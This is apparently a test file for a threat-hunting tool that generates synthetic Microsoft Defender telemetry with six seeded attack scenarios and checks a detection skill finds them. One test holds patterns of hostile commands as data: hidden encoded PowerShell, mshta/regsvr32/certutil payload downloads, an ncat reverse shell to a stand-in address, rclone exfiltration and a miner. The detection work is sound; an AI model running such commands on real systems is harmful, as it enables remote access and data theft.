import { mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DuckDBInstance, type DuckDBConnection } from '@duckdb/node-api';
import { loadDataDir } from '../../src/engines/local/load.ts';
import { ensureDefaultSample, generateSample, readSampleManifest, type GroundTruth, type SampleManifest } from '../../src/sample/index.ts';
import { defenderSchema } from '../../src/kusto/schema.ts';
import { HuntError } from '../../src/errors.ts';
import { LocalEngine } from '../../src/engines/local/engine.ts';
import { loadSkills } from '../../src/skills/manifest.ts';
import { renderHunt } from '../../src/skills/render.ts';

const NOW = new Date('2026-12-04T12:00:00Z');
const DAY = 86_400_000;
let root: string;
let dir: string;
let manifest: SampleManifest;
let truth: GroundTruth;
let con: DuckDBConnection;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'hunt-sample-'));
  dir = join(root, 'default');
  manifest = await generateSample({ outDir: dir, seed: 1, now: NOW });
  truth = JSON.parse(await readFile(join(dir, 'ground-truth.json'), 'utf8')) as GroundTruth;
  con = await (await DuckDBInstance.create(':memory:')).connect();
  await loadDataDir(con, dir);
});
afterAll(async () => { await rm(root, { recursive: true, force: true }); });

const rows = async (sql: string) => (await con.runAndReadAll(sql)).getRowObjectsJson();
const one = async (sql: string) => Object.values((await rows(sql))[0])[0];
const q = (s: string) => `'${s.replaceAll("'", "''")}'`;
/** Every file's bytes, by name. */
const contents = async (folder: string) => Object.fromEntries(await Promise.all((await readdir(folder)).sort().map(async (f) => [f, await readFile(join(folder, f))] as const)));

describe('the default sample', () => {
  it('has the three tables with every schema column, the default sizes and a manifest saying so', async () => {
    expect(manifest).toMatchObject({ seed: 1, devices: 50, days: 7, events: 50_000, format: 'csv', now: NOW.toISOString(), start: new Date(NOW.getTime() - 7 * DAY).toISOString() });
    expect(await readSampleManifest(dir)).toEqual(manifest);
    for (const table of ['DeviceNetworkEvents', 'DeviceProcessEvents', 'DeviceInfo']) {
      const header = (await readFile(join(dir, `${table}.csv`), 'utf8')).split('\n', 1)[0];
      expect(header.split(',')).toEqual(defenderSchema()[table].map((c) => c.name));
      expect(await one(`SELECT count(*)::INTEGER FROM ${table}`)).toBe(manifest.tables[table].rows);
    }
    expect(manifest.tables.DeviceNetworkEvents.rows).toBe(50_000);
    expect(await one(`SELECT count(DISTINCT DeviceId)::INTEGER FROM DeviceNetworkEvents`)).toBe(50);
  });

  it('names devices like a company and keeps DeviceId, DeviceName and DeviceInfo consistent', async () => {
    const devices = await rows(`SELECT DISTINCT DeviceId, DeviceName FROM DeviceInfo`);
    expect(devices).toHaveLength(50);
    for (const d of devices) {
      expect(d.DeviceId).toMatch(/^[0-9a-f]{40}$/);
      expect(d.DeviceName).toMatch(/^(ws-\d{4}|srv-[a-z]+-\d{2})\.contoso\.com$/);
    }
    expect(devices.map((d) => d.DeviceName)).toContain('ws-0042.contoso.com');
    for (const table of ['DeviceNetworkEvents', 'DeviceProcessEvents']) {
      expect(await one(`SELECT count(*)::INTEGER FROM (SELECT DISTINCT DeviceId, DeviceName FROM ${table}) t ANTI JOIN DeviceInfo i USING (DeviceId, DeviceName)`)).toBe(0);
    }
  });

  it('has exactly one process creation event for every connection, with the same process details', async () => {
    expect(await one(`SELECT count(*)::INTEGER FROM (SELECT DeviceId, ProcessId, ProcessCreationTime FROM DeviceProcessEvents GROUP BY ALL HAVING count(*) > 1)`)).toBe(0);
    const joined = await rows(`SELECT count(p.ProcessId)::INTEGER AS matched, count(*)::INTEGER AS total,
        count(*) FILTER (WHERE p.FileName = n.InitiatingProcessFileName AND p.ProcessCommandLine = n.InitiatingProcessCommandLine
          AND p.AccountDomain = n.InitiatingProcessAccountDomain AND p.AccountName = n.InitiatingProcessAccountName
          AND p.InitiatingProcessFileName = n.InitiatingProcessParentFileName AND p.InitiatingProcessId = n.InitiatingProcessParentId
          AND p.FolderPath = n.InitiatingProcessFolderPath AND p.SHA256 = n.InitiatingProcessSHA256)::INTEGER AS same
      FROM DeviceNetworkEvents n LEFT JOIN DeviceProcessEvents p
        ON p.DeviceId = n.DeviceId AND p.ProcessId = n.InitiatingProcessId AND p.ProcessCreationTime = n.InitiatingProcessCreationTime`);
    expect(joined).toEqual([{ matched: 50_000, total: 50_000, same: 50_000 }]);
    expect(await one(`SELECT count(*)::INTEGER FROM DeviceNetworkEvents WHERE Timestamp < InitiatingProcessCreationTime`)).toBe(0);
    // A parent that is itself in the table (not a boot root) was created before its child, on the same device.
    expect(await one(`SELECT count(*)::INTEGER FROM DeviceProcessEvents c JOIN DeviceProcessEvents p
      ON p.DeviceId = c.DeviceId AND p.ProcessId = c.InitiatingProcessId AND p.ProcessCreationTime = c.InitiatingProcessCreationTime
      WHERE p.FileName <> c.InitiatingProcessFileName OR p.ProcessCreationTime > c.ProcessCreationTime`)).toBe(0);
  });

  it('covers the last `days` days up to `now`, busier in office hours than at night', async () => {
    const range = await rows(`SELECT min(Timestamp) >= TIMESTAMP '2026-11-27 12:00:00' AS after_start, max(Timestamp) <= TIMESTAMP '2026-12-04 12:00:00' AS before_now,
      max(Timestamp) > TIMESTAMP '2026-12-04 11:00:00' AS recent FROM DeviceNetworkEvents`);
    expect(range).toEqual([{ after_start: true, before_now: true, recent: true }]);
    const office = Number(await one(`SELECT count(*) FROM DeviceNetworkEvents WHERE hour(Timestamp) BETWEEN 9 AND 16 AND dayofweek(Timestamp) BETWEEN 1 AND 5`));
    const night = Number(await one(`SELECT count(*) FROM DeviceNetworkEvents WHERE hour(Timestamp) BETWEEN 0 AND 5`));
    expect(office / 8).toBeGreaterThan(3 * (night / 6));
  });

  it('uses only documentation ranges for public addresses and 10/8 or loopback otherwise, with the matching RemoteIPType', async () => {
    const types = await rows(`SELECT RemoteIPType, count(*) FILTER (WHERE NOT (
        (RemoteIPType = 'Public' AND regexp_matches(RemoteIP, '^(192\\.0\\.2|198\\.51\\.100|203\\.0\\.113)\\.\\d+$'))
        OR (RemoteIPType = 'Private' AND regexp_matches(RemoteIP, '^10\\.\\d+\\.\\d+\\.\\d+$'))
        OR (RemoteIPType = 'Loopback' AND RemoteIP = '127.0.0.1' AND LocalIP = '127.0.0.1')))::INTEGER AS wrong
      FROM DeviceNetworkEvents GROUP BY 1 ORDER BY 1`);
    expect(types).toEqual([{ RemoteIPType: 'Loopback', wrong: 0 }, { RemoteIPType: 'Private', wrong: 0 }, { RemoteIPType: 'Public', wrong: 0 }]);
    expect(await one(`SELECT count(*)::INTEGER FROM DeviceNetworkEvents WHERE RemoteIPType <> 'Loopback' AND NOT regexp_matches(LocalIP, '^10\\.')`)).toBe(0);
    expect(await one(`SELECT count(*)::INTEGER FROM DeviceInfo WHERE NOT regexp_matches(PublicIP, '^(198\\.51\\.100|203\\.0\\.113)\\.')`)).toBe(0);
    // 192.0.2.0/24 is only the scenarios' destinations.
    const malicious = (await rows(`SELECT DISTINCT RemoteIP FROM DeviceNetworkEvents WHERE RemoteIP LIKE '192.0.2.%' ORDER BY 1`)).map((r) => r.RemoteIP);
    expect(malicious).toEqual([...new Set(truth.scenarios.map((s) => s.remoteIp))].sort());
  });

  it('has benign traffic on legitimate high ports to public services', async () => {
    const benign = await rows(`SELECT InitiatingProcessFileName AS process, list(DISTINCT RemotePort ORDER BY RemotePort) AS ports FROM DeviceNetworkEvents
      WHERE RemoteIPType = 'Public' AND RemotePort >= 1025 AND RemoteIP NOT LIKE '192.0.2.%' GROUP BY 1 ORDER BY 1`);
    const byProcess = Object.fromEntries(benign.map((r) => [r.process, r.ports as number[]]));
    expect(byProcess['chrome.exe']).toContain(5228);
    expect(byProcess['Zoom.exe']).toContain(8801);
    expect(byProcess['Spotify.exe']).toContain(4070);
    expect(byProcess['mstsc.exe']).toEqual([3391]);
    expect(byProcess['Code.exe']).toEqual([8080, 8443]);
    expect(byProcess['ms-teams.exe']).toEqual([3478, 3479, 3480, 3481]);
    expect(byProcess['steam.exe'].every((p: number) => p >= 27015 && p <= 27050)).toBe(true);
    expect(await one(`SELECT count(*)::INTEGER FROM DeviceNetworkEvents WHERE RemotePort IN (3478, 8801) AND Protocol <> 'Udp'`)).toBe(0);
  });

  it('has ordinary traffic too: web on 443/80, DNS, LAN and failed connections', async () => {
    const ports = (await rows(`SELECT RemotePort, count(*)::INTEGER AS n FROM DeviceNetworkEvents GROUP BY 1 ORDER BY 2 DESC LIMIT 3`)).map((r) => r.RemotePort);
    expect(ports).toEqual(expect.arrayContaining([443, 53]));
    const actions = Object.fromEntries((await rows(`SELECT ActionType, count(*)::INTEGER AS n FROM DeviceNetworkEvents WHERE RemoteIP NOT LIKE '192.0.2.%' GROUP BY 1`)).map((r) => [r.ActionType, r.n as number]));
    expect(actions.ConnectionFailed).toBeGreaterThan(100);
    expect(actions.ConnectionAttempt).toBeGreaterThan(10);
    expect(actions.ConnectionSuccess).toBeGreaterThan(0.9 * 50_000);
    const lan = Number(await one(`SELECT count(*) FROM DeviceNetworkEvents WHERE RemoteIPType = 'Private'`));
    expect(lan).toBeGreaterThan(5_000);
    const apps = (await rows(`SELECT DISTINCT InitiatingProcessFileName AS f FROM DeviceNetworkEvents`)).map((r) => r.f);
    expect(apps).toEqual(expect.arrayContaining(['msedge.exe', 'chrome.exe', 'firefox.exe', 'OUTLOOK.EXE', 'OneDrive.exe', 'svchost.exe', 'wuauclt.exe', 'MsMpEng.exe', 'MsSense.exe']));
  });
});

describe('the ground truth', () => {
  const SCENARIOS = ['c2-beacon', 'exfiltration', 'coin-miner', 'tor', 'lolbin', 'reverse-shell'];

  it('lists the six scenarios, each on its own device, each destination seen from that device only', async () => {
    expect([...new Set(truth.scenarios.map((s) => s.scenario))]).toEqual(SCENARIOS);
    const deviceOf = new Map<string, string>();
    for (const s of truth.scenarios) {
      if (deviceOf.has(s.scenario)) expect(deviceOf.get(s.scenario)).toBe(s.device);
      deviceOf.set(s.scenario, s.device);
      expect(await one(`SELECT list(DISTINCT DeviceName) FROM DeviceNetworkEvents WHERE RemoteIP = ${q(s.remoteIp)}`)).toEqual([s.device]);
    }
    expect(new Set(deviceOf.values()).size).toBe(SCENARIOS.length);
    expect(deviceOf.get('c2-beacon')).toBe('ws-0042.contoso.com');
    expect(manifest.groundTruth).toEqual({ file: 'ground-truth.json', scenarios: 6 });
  });

  it('matches the data: each entry has its rows with that device, process, address and port, within its window', async () => {
    for (const s of truth.scenarios) {
      const match = `DeviceName = ${q(s.device)} AND InitiatingProcessFileName = ${q(s.process)} AND RemoteIP = ${q(s.remoteIp)} AND RemotePort = ${s.remotePort}`;
      const r = await rows(`SELECT count(*)::INTEGER AS n, strftime(min(Timestamp), '%Y-%m-%dT%H:%M:%S.%gZ') AS first, strftime(max(Timestamp), '%Y-%m-%dT%H:%M:%S.%gZ') AS last
        FROM DeviceNetworkEvents WHERE ${match}`);
      expect(r, s.scenario).toEqual([{ n: s.connections, first: s.start, last: s.end }]);
      expect(s.connections).toBeGreaterThan(0);
    }
  });

  it('is visible to the seed skill defaults: public address, port above 1024, within the last 7 days', async () => {
    const since = new Date(NOW.getTime() - 7 * DAY);
    for (const s of truth.scenarios) {
      expect(Date.parse(s.start)).toBeGreaterThan(since.getTime());
      expect(Date.parse(s.end)).toBeLessThanOrEqual(NOW.getTime());
      expect(s.remotePort).toBeGreaterThan(1024);
      expect(await one(`SELECT list(DISTINCT RemoteIPType) FROM DeviceNetworkEvents WHERE RemoteIP = ${q(s.remoteIp)}`)).toEqual(['Public']);
    }
  });

  it('gives the malicious processes malicious-looking command lines and their attack chain', async () => {
    const chain = await rows(`SELECT n.InitiatingProcessFileName AS process, any_value(p.ProcessCommandLine) AS cmd, any_value(p.InitiatingProcessFileName) AS parent
      FROM DeviceNetworkEvents n JOIN DeviceProcessEvents p ON p.DeviceId = n.DeviceId AND p.ProcessId = n.InitiatingProcessId AND p.ProcessCreationTime = n.InitiatingProcessCreationTime
      WHERE n.RemoteIP LIKE '192.0.2.%' GROUP BY 1 ORDER BY 1`);
    const byProcess = Object.fromEntries(chain.map((r) => [r.process, r]));
    expect(byProcess['powershell.exe']).toMatchObject({ parent: 'WINWORD.EXE', cmd: expect.stringMatching(/-nop -w hidden .*-enc [A-Za-z0-9+/=]{40,}/) });
    expect(byProcess['xmrig.exe'].cmd).toMatch(/-o 192\.0\.2\.200:3333/);
    expect(byProcess['tor.exe'].parent).toBe('firefox.exe');
    expect(byProcess['mshta.exe'].cmd).toMatch(/http:\/\/192\.0\.2\.66:8081\/.*\.hta/);
    expect(byProcess['regsvr32.exe'].cmd).toMatch(/\/i:http.*scrobj\.dll/);
    expect(byProcess['certutil.exe'].cmd).toMatch(/-urlcache -split -f http/);
    expect(byProcess['ncat.exe'].cmd).toMatch(/ncat\.exe 192\.0\.2\.31 31337 -e cmd\.exe/);
    expect(byProcess['rclone.exe'].cmd).toMatch(/^rclone\.exe copy /);
  });

  it('is what the seed skill finds with its default inputs, on the local engine', async () => {
    const skill = loadSkills().skills.find((s) => s.name === 'Detect outbound malicious traffic')!;
    const engine = await LocalEngine.open({ dataDir: dir });
    try {
      const result = await engine.run(renderHunt(skill, { skill: skill.name, parameters: {} }).kql, { now: NOW, maxRows: 10_000 });
      const found = result.rows.filter((r) => String(r.RemoteIP).startsWith('192.0.2.'))
        .map((r) => ({ device: r.DeviceName, process: r.InitiatingProcessFileName, remoteIp: r.RemoteIP, remotePort: r.RemotePort, connections: r.Connections }));
      const expected = truth.scenarios.map(({ device, process, remoteIp, remotePort, connections }) => ({ device, process, remoteIp, remotePort, connections }));
      const byKey = (a: { remoteIp: unknown; remotePort: unknown }, b: { remoteIp: unknown; remotePort: unknown }) => `${a.remoteIp}:${a.remotePort}`.localeCompare(`${b.remoteIp}:${b.remotePort}`);
      expect(found.sort(byKey)).toEqual(expected.sort(byKey));
      // The join found each connection's own process: the command line and parent come from DeviceProcessEvents.
      const beacon = result.rows.find((r) => r.RemoteIP === '192.0.2.45')!;
      expect(beacon).toMatchObject({ ParentProcessFileName: 'WINWORD.EXE', ProcessCommandLine: expect.stringContaining('-enc ') });
    } finally {
      await engine.close?.();
    }
  });

  it('beacons at a fixed interval with jitter', async () => {
    const gaps = (await rows(`SELECT epoch(Timestamp - lag(Timestamp) OVER (ORDER BY Timestamp)) AS gap FROM DeviceNetworkEvents WHERE RemoteIP = '192.0.2.45' QUALIFY gap IS NOT NULL`))
      .map((r) => r.gap as number);
    expect(gaps.length).toBeGreaterThan(100);
    expect(Math.min(...gaps)).toBeGreaterThanOrEqual(270);
    expect(Math.max(...gaps)).toBeLessThanOrEqual(330);
    expect(new Set(gaps.map(Math.round)).size).toBeGreaterThan(10);
  });
});

describe('generateSample', () => {
  const small = { seed: 7, devices: 12, days: 2, events: 3000, now: NOW } as const;

  it('is deterministic: the same seed and now give byte-identical files, in every format', async () => {
    for (const format of ['csv', 'jsonl', 'parquet'] as const) {
      await generateSample({ ...small, format, outDir: join(root, `a-${format}`) });
      await generateSample({ ...small, format, outDir: join(root, `b-${format}`) });
      const [a, b] = [await contents(join(root, `a-${format}`)), await contents(join(root, `b-${format}`))];
      expect(Object.keys(a)).toEqual(['DeviceInfo', 'DeviceNetworkEvents', 'DeviceProcessEvents'].map((t) => `${t}.${format}`).concat('ground-truth.json', 'manifest.json').sort());
      for (const f of Object.keys(a)) expect(a[f].equals(b[f]), `${format}: ${f}`).toBe(true);
    }
  });

  it('gives a different sample for a different seed', async () => {
    await generateSample({ ...small, seed: 8, format: 'csv', outDir: join(root, 'c-csv') });
    const [a, c] = [await contents(join(root, 'a-csv')), await contents(join(root, 'c-csv'))];
    expect(a['DeviceNetworkEvents.csv'].equals(c['DeviceNetworkEvents.csv'])).toBe(false);
    const idsOf = (b: Buffer) => new Set(b.toString('utf8').split('\n').slice(1).filter(Boolean).map((l) => l.split(',')[1]));
    const shared = [...idsOf(a['DeviceInfo.csv'])].filter((id) => idsOf(c['DeviceInfo.csv']).has(id));
    expect(shared).toEqual([]);
  });

  it('loads to the same tables from CSV, JSONL and Parquet', async () => {
    const digests: unknown[] = [];
    for (const format of ['csv', 'jsonl', 'parquet']) {
      const c = await (await DuckDBInstance.create(':memory:')).connect();
      await loadDataDir(c, join(root, `a-${format}`));
      const r = await c.runAndReadAll(`SELECT (SELECT sum(hash(t))::VARCHAR FROM DeviceNetworkEvents t) AS n, (SELECT sum(hash(t))::VARCHAR FROM DeviceProcessEvents t) AS p,
        (SELECT sum(hash(t))::VARCHAR FROM DeviceInfo t) AS i, (SELECT count(*)::INTEGER FROM DeviceNetworkEvents) AS rows`);
      digests.push(r.getRowObjectsJson()[0]);
    }
    expect(digests[0]).toMatchObject({ rows: 3000 });
    expect(digests[1]).toEqual(digests[0]);
    expect(digests[2]).toEqual(digests[0]);
  });

  it('keeps the scenarios inside a short sample', async () => {
    const out = join(root, 'one-day');
    await generateSample({ seed: 3, devices: 8, days: 1, events: 500, now: NOW, outDir: out, format: 'parquet' });
    const t = JSON.parse(await readFile(join(out, 'ground-truth.json'), 'utf8')) as GroundTruth;
    expect(new Set(t.scenarios.map((s) => s.device)).size).toBe(6);
    for (const s of t.scenarios) expect(Date.parse(s.start)).toBeGreaterThan(NOW.getTime() - DAY);
  });

  it('replaces the tables of an earlier sample in another format, so the folder still loads', async () => {
    const out = join(root, 'reformat');
    await generateSample({ ...small, format: 'csv', outDir: out });
    await writeFile(join(out, 'Notes.csv'), 'a\n1\n');
    await generateSample({ ...small, format: 'parquet', outDir: out });
    expect((await readdir(out)).sort()).toEqual(['DeviceInfo.parquet', 'DeviceNetworkEvents.parquet', 'DeviceProcessEvents.parquet', 'Notes.csv', 'ground-truth.json', 'manifest.json']);
  });

  it('refuses options it cannot honour, with a message saying why', async () => {
    for (const bad of [{ devices: 5 }, { days: 0 }, { events: -1 }, { seed: 1.5 }, { format: 'xml' as never }, { now: new Date('nope') }]) {
      const e = await generateSample({ ...small, ...bad, outDir: join(root, 'never') }).catch((x: unknown) => x);
      expect(e).toBeInstanceOf(HuntError);
      expect((e as HuntError).code).toBe('InvalidSampleOption');
    }
    await expect(stat(join(root, 'never'))).rejects.toThrow();
  });
});

describe('ensureDefaultSample', () => {
  it('generates the default sample once, reuses it, and regenerates it when it is a day old', async () => {
    const cache = join(root, 'cache', 'sample');
    const at = new Date('2026-12-04T12:34:56Z');
    expect(await ensureDefaultSample(cache, at)).toBe(cache);
    const first = await readSampleManifest(cache);
    expect(first).toMatchObject({ seed: 1, devices: 50, days: 7, events: 50_000, format: 'parquet', now: '2026-12-04T12:00:00.000Z' });
    const written = (await stat(join(cache, 'manifest.json'))).mtimeMs;

    await ensureDefaultSample(cache, new Date(at.getTime() + 20 * 3_600_000));
    expect((await stat(join(cache, 'manifest.json'))).mtimeMs).toBe(written);

    await ensureDefaultSample(cache, new Date(at.getTime() + 25 * 3_600_000));
    expect((await readSampleManifest(cache))?.now).toBe('2026-12-05T13:00:00.000Z');
    expect((await readdir(join(root, 'cache'))).sort()).toEqual(['sample']);
  });

  it('regenerates a folder that holds no complete sample', async () => {
    const cache = join(root, 'broken-cache');
    await generateSample({ seed: 1, devices: 8, events: 100, now: NOW, outDir: cache, format: 'parquet' });
    await rm(join(cache, 'DeviceNetworkEvents.parquet'));
    await ensureDefaultSample(cache, NOW);
    expect(await readSampleManifest(cache)).toMatchObject({ devices: 50, events: 50_000 });
    const c = await (await DuckDBInstance.create(':memory:')).connect();
    expect((await loadDataDir(c, cache)).map((t) => t.rows)).toEqual([350, 50_000, expect.any(Number)]);
  });
});
